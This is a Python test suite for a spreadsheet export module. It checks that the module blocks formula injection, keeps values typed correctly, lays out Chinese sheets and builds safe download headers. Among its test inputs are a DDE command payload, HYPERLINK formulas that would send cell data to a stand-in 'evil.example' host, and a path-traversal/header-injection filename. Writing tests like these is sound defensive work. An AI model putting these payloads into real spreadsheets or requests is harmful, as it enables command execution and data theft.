"""Exports: no formula ever (CWE-1236, RELIABILITY C3), Chinese headers and names, real dates and numbers."""

import io
import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from urllib.parse import unquote

import openpyxl
import pytest
from django.utils import translation
from hypothesis import given, settings
from hypothesis import strategies as st

from wuse.spreadsheets import (
    XLSX_CONTENT_TYPE,
    Sheet,
    SheetTooLarge,
    content_disposition,
    escape_formula,
    money,
    sheet_name,
    write_xlsx,
    xlsx_response,
)
from wuse.spreadsheets import export as export_module

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOADS = ["cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?x="&A1,"点我")', "1+2", "SUM(A1:A9)", ""]


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


def _written(*sheets: Sheet) -> openpyxl.Workbook:
    buffer = io.BytesIO()
    write_xlsx(buffer, sheets=list(sheets))
    buffer.seek(0)
    return openpyxl.load_workbook(buffer)  # not data_only: formulas would show as data_type "f"


def _excel_text(value: str) -> str:
    """What Excel shows for a stored string: it decodes the _xHHHH_ escapes openpyxl leaves in place."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), value)


def _expected_text(text: str) -> str:
    """The documented export normalisation: one kind of line break, no invisible control characters."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return re.sub("[\x00-\x08\x0b-\x1f\x7f\ufffe\uffff]", "", text)


def _formula_cells(workbook: openpyxl.Workbook) -> list[str]:
    return [cell.coordinate for ws in workbook.worksheets for row in ws.iter_rows() for cell in row
            if cell.data_type == "f"]


# ---------------------------------------------------------------------------------------------- formula injection


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_escape_formula_for_csv_prefixes_each_trigger_character(trigger):
    assert escape_formula(trigger + "1+2") == "'" + trigger + "1+2"


@pytest.mark.parametrize("value", ["1+2", " =1+2", "a=b", "张三", "", "'=already", 5, None, 1.5])
def test_escape_formula_leaves_other_values_alone(value):
    assert escape_formula(value) == value


def test_cells_starting_with_each_trigger_are_string_cells_kept_as_typed():
    texts = [trigger + payload for trigger in TRIGGERS for payload in PAYLOADS]
    workbook = _written(Sheet("需求", ["内容", "备注"], [[text, "普通文字"] for text in texts]))
    worksheet = workbook.active
    assert _formula_cells(workbook) == []
    cells = [worksheet.cell(row=row, column=1) for row in range(2, len(texts) + 2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(texts)
    assert [_excel_text(cell.value) for cell in cells] == [_expected_text(text) for text in texts]


def test_headers_are_string_cells_kept_as_typed_too():
    worksheet = _written(Sheet("s", ["=HEADER()", "名称"], [])).active
    assert worksheet["A1"].value == "=HEADER()"
    assert worksheet["A1"].data_type == "s"


LOOKS_LIKE_A_FORMULA = ["=1+1", "+86 138 1234 5678", "-3", "@SUM(A1)", "=HYPERLINK(\"http://evil.example\",\"点我\")",
                        "-3幢", "=cmd|' /C calc'!A0"]


def _sheet_xml(buffer: io.BytesIO) -> str:
    with zipfile.ZipFile(buffer) as archive:
        return "".join(archive.read(name).decode("utf-8") for name in archive.namelist()
                       if name.startswith("xl/worksheets/") and name.endswith(".xml"))


def test_text_that_looks_like_a_formula_is_a_string_cell_with_the_text_as_typed_and_no_quote():
    buffer = io.BytesIO()
    write_xlsx(buffer, sheets=[Sheet("数据", ["=标题", "内容"], [[text, text] for text in LOOKS_LIKE_A_FORMULA])])
    buffer.seek(0)
    workbook = openpyxl.load_workbook(buffer)  # not data_only: a formula would load as data_type "f"
    worksheet = workbook.active
    for row, text in enumerate(LOOKS_LIKE_A_FORMULA, start=2):
        cell = worksheet.cell(row=row, column=1)
        assert (cell.value, cell.data_type) == (text, "s"), (row, cell.value)
        assert not cell.value.startswith("'")
    assert (worksheet["A1"].value, worksheet["A1"].data_type) == ("=标题", "s")
    assert _formula_cells(workbook) == []
    assert all(cell.data_type != "f" for row in worksheet.iter_rows() for cell in row)
    xml = _sheet_xml(buffer)
    assert "<c " in xml and not re.search(r"<f[\s>/]", xml), "a formula element in the sheet"
    assert 't="inlineStr"' in xml or 't="s"' in xml


@settings(max_examples=40, deadline=None)
@given(st.lists(st.text(max_size=40), min_size=1, max_size=20), st.sampled_from(TRIGGERS))
def test_any_text_is_exported_as_text_and_never_as_a_formula(texts, trigger):
    texts = texts + [trigger + texts[0]]
    workbook = _written(Sheet("数据", ["文本"], [[text] for text in texts]))
    assert _formula_cells(workbook) == []
    for row, text in enumerate(texts, start=2):
        cell = workbook.active.cell(row=row, column=1)
        shown = _excel_text(cell.value or "")
        assert shown == _expected_text(text)
        assert cell.value is None or cell.data_type == "s"


def test_text_that_looks_like_a_number_stays_text():
    worksheet = _written(Sheet("s", ["身份证号", "编号", "电话"], [["110101199003077777", "0012", "1e5"]])).active
    assert [(c.value, c.data_type) for c in worksheet[2]] == [
        ("110101199003077777", "s"), ("0012", "s"), ("1e5", "s")]


# ---------------------------------------------------------------------------------------------- types


def test_values_keep_their_types():
    row = [date(2026, 3, 5), datetime(2026, 3, 5, 8, 30), 3, 2.5, Decimal("1.25"), True, None,
           110101199003077777, float("nan")]
    worksheet = _written(Sheet("s", [f"列{i}" for i in range(len(row))], [row])).active
    cells = worksheet[2]
    assert cells[0].value == datetime(2026, 3, 5) and cells[0].is_date
    assert cells[0].number_format == "yyyy-mm-dd"
    assert cells[1].value == datetime(2026, 3, 5, 8, 30) and cells[1].is_date
    assert [(c.value, c.data_type) for c in cells[2:5]] == [(3, "n"), (2.5, "n"), (1.25, "n")]
    assert cells[5].value is True
    assert cells[6].value is None
    assert (cells[7].value, cells[7].data_type) == ("110101199003077777", "s")  # 18 digits: Excel keeps 15
    assert (cells[8].value, cells[8].data_type) == ("nan", "s")


def test_money_is_a_number_shown_with_two_places_and_other_decimals_as_they_are():
    row = [money("12000"), money(Decimal("1234.5")), money("0.005"), Decimal("6.5"), money(None)]
    cells = _written(Sheet("s", ["a", "b", "c", "d", "e"], [row])).active[2]
    assert [(c.value, c.data_type) for c in cells[:4]] == [(12000, "n"), (1234.5, "n"), (0.01, "n"), (6.5, "n")]
    assert [c.number_format for c in cells[:4]] == ["#,##0.00"] * 3 + ["General"]
    assert cells[4].value is None


def test_aware_datetimes_are_written_as_shanghai_wall_time(settings):
    settings.TIME_ZONE = "Asia/Shanghai"
    worksheet = _written(Sheet("s", ["时间"], [[datetime(2026, 3, 5, 0, 0, tzinfo=UTC)]])).active
    assert worksheet["A2"].value == datetime(2026, 3, 5, 8, 0)


def test_rows_may_be_a_generator_and_shorter_than_the_headers():
    worksheet = _written(Sheet("s", ["a", "b", "c"], ([n, f"第{n}行"] for n in range(3)))).active
    assert [[c.value for c in row] for row in worksheet.iter_rows(min_row=2)] == [
        [0, "第0行", None], [1, "第1行", None], [2, "第2行", None]]


def test_a_row_longer_than_the_headers_is_a_programming_error():
    with pytest.raises(ValueError, match="3 cells for 2 headers"):
        write_xlsx(io.BytesIO(), sheets=[Sheet("s", ["a", "b"], [[1, 2, 3]])])


def test_more_rows_than_a_sheet_holds_are_refused(monkeypatch):
    monkeypatch.setattr(export_module, "MAX_DATA_ROWS", 3)
    with pytest.raises(SheetTooLarge, match="More than 3 rows"):
        write_xlsx(io.BytesIO(), sheets=[Sheet("s", ["a"], [[n] for n in range(4)])])


# ---------------------------------------------------------------------------------------------- layout


def test_chinese_headers_and_sheet_names_round_trip_with_bold_frozen_filtered_headers():
    headers = ["需求编号", "居民姓名", "所属社区"]
    rows = [["XQ-0001", "张三", "上保社区"], ["XQ-0002", "李四", "北山街道"]]
    workbook = _written(Sheet("上保社区需求清单", headers, rows), Sheet("统计", ["项目"], [["合计"]]))
    assert workbook.sheetnames == ["上保社区需求清单", "统计"]
    worksheet = workbook["上保社区需求清单"]
    assert [c.value for c in worksheet[1]] == headers
    assert all(c.font.b for c in worksheet[1])
    assert [[c.value for c in row] for row in worksheet.iter_rows(min_row=2)] == rows
    assert worksheet.freeze_panes == "A2"
    assert worksheet.auto_filter.ref == "A1:C3"


def test_column_widths_count_chinese_characters_double_and_honour_given_widths():
    rows = [["需求描述需求描述需求描述需求描述", "abcdefghijklmnop", "x"]]
    worksheet = _written(Sheet("s", ["描述", "code", "备注"], rows, widths=[None, None, 30])).active
    widths = {key: dim.width for key, dim in worksheet.column_dimensions.items()}
    assert widths["A"] > widths["B"] > 10
    assert widths["C"] == pytest.approx(30, abs=1)


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("需求[清单]:2026/03*?\\", "需求_清单__2026_03___"),
        ("", "Sheet"),
        ("'引号'", "引号"),
        ("History", "History_"),
        ("居民需求登记清单" * 5, ("居民需求登记清单" * 5)[:31]),
        ("😀" * 20, "😀" * 15),  # Excel counts UTF-16 units: each emoji is two
    ],
)
def test_sheet_names_follow_excel_rules(name, expected):
    assert sheet_name(name) == expected
    assert len(sheet_name(name).encode("utf-16-le")) <= 62


def test_sheet_names_are_made_unique_ignoring_case():
    assert sheet_name("清单", ["清单"]) == "清单 (2)"
    assert sheet_name("List", ["list", "LIST (2)"]) == "List (3)"
    long = "长" * 40
    assert sheet_name(long, [sheet_name(long)]) == "长" * 27 + " (2)"


def test_a_workbook_with_awkward_sheet_names_opens():
    names = ["a/b", "a\\b", "A/B", "", "History", "长" * 40, "长" * 40]
    workbook = _written(*(Sheet(name, ["x"], [[1]]) for name in names))
    assert len({n.casefold() for n in workbook.sheetnames}) == len(names)
    assert all(len(n) <= 31 and not set("[]:*?/\\") & set(n) for n in workbook.sheetnames)


# ---------------------------------------------------------------------------------------------- HTTP


def test_the_response_names_a_chinese_file_for_every_browser():
    filename = "上保社区需求清单2026.xlsx"
    response = xlsx_response(filename, [Sheet("需求", ["姓名"], [["张三"]])])
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "no-store"
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="export.xlsx"; ')
    assert disposition.isascii()
    encoded = re.search(r"filename\*=UTF-8''(\S+)$", disposition)[1]
    assert unquote(encoded, encoding="utf-8") == filename
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook["需求"]["A2"].value == "张三"


def test_an_ascii_name_is_its_own_fallback():
    assert content_disposition("needs-2026.xlsx") == (
        "attachment; filename=\"needs-2026.xlsx\"; filename*=UTF-8''needs-2026.xlsx")


@pytest.mark.parametrize("filename", ['../../etc/"passwd"\r\nX-Evil: 1', "清单\n", "", "a;b=c.xlsx", "报表"])
def test_hostile_filenames_give_a_safe_single_line_header(filename):
    disposition = content_disposition(filename)
    assert disposition.isascii()
    assert "\r" not in disposition and "\n" not in disposition
    fallback = re.search(r'filename="([^"]*)"', disposition)[1]
    assert fallback.endswith(".xlsx") and "/" not in fallback
    assert unquote(re.search(r"filename\*=UTF-8''(\S+)$", disposition)[1]).endswith(".xlsx")
    assert "/" not in unquote(re.search(r"filename\*=UTF-8''(\S+)$", disposition)[1])
